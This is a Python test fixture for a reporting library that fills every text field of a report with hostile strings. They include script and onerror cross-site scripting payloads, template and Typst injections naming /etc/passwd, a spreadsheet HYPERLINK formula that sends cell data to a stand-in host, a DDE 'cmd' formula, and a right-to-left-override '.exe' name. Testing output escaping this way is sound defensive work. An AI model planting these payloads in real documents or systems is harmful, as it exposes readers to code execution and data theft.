"""A report in which every text tries to break out of where it is put."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

from weft.analysis.reporting.model import (
    Chart,
    Column,
    Figure,
    Input,
    Kind,
    Report,
    Section,
    Shape,
    Table,
    Value,
    Workings,
)

TEXTS = (
    "<script>document.title='owned'</script>",
    '"><img src=x onerror="document.title=\'owned\'">',
    "</style></svg></title><h1>owned</h1>",
    "{{ 7 * 7 }} {% raw %} ${7*7}",
    '#panic("owned") #include "/etc/passwd" $x$ *bold* _it_ @ref <label> `raw` \\u{41}',
    "]) #set page(width: 1cm) ([",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "zero\x00bell\x07escape\x1b[31m",
    "turned\u202etxt.exe\u202c round",
    "half a character \ud83d and none \ufffe",
    "emoji 😀👩‍👩‍👧, 東京, العربية, עברית, हिन्दी",
    "W" * 1500,
    "many words " * 150,
    "two\nlines\r\nthree",
    '"quoted", comma; semicolon',
    "",
)
"""Texts that people have put into supplier names, or that someone will."""


def report() -> Report:
    """A report with hostile text wherever there is text, and a picture of each shape."""
    return Report(
        id="weft-hostile",
        title=TEXTS[0],
        subject=TEXTS[1],
        period=TEXTS[4],
        headlines=TEXTS,
        sections=tuple(_section(shape) for shape in Shape),
        unknowns=TEXTS,
        method=TEXTS,
        inputs=tuple(
            Input(id=f"file-{at}", path=text, sha256="0" * 64, rows=at, note=text)
            for at, text in enumerate(TEXTS)
        ),
        versions={text: text for text in TEXTS},
    )


def _section(shape: Shape) -> Section:
    return Section(
        id=f"section-{shape}",
        title=TEXTS[2],
        sentences=TEXTS,
        figures=tuple(
            Figure(
                id=f"{shape}.figure_{at}",
                label=text,
                value=text,
                kind=Kind.TEXT,
                note=text,
                workings=Workings(text, steps=(text,), inputs=(f"file-{at}",)),
            )
            for at, text in enumerate(TEXTS)
        ),
        tables=(_table(shape),),
        in_summary=True,
    )


def _table(shape: Shape) -> Table:
    rows: list[tuple[Value, ...]] = [
        (text, TEXTS[(at + 1) % 3], Decimal((-1) ** at * (at + 1) * 1_000), at, date(2026, 4, 1))
        for at, text in enumerate(TEXTS)
    ]
    return Table(
        id=f"table-{shape}",
        title=TEXTS[1],
        columns=(
            Column("name", TEXTS[0], description=TEXTS[6]),
            Column("part", TEXTS[7]),
            Column("amount_gbp", TEXTS[8], Kind.GBP),
            Column("number", TEXTS[9], Kind.COUNT),
            Column("day", TEXTS[4], Kind.DATE),
        ),
        rows=(*rows, (None, None, None, 0, None)),
        definition=TEXTS[0],
        chart=Chart(shape, "name", "amount_gbp", split="part", alt=TEXTS[1]),
        note=TEXTS[3],
    )
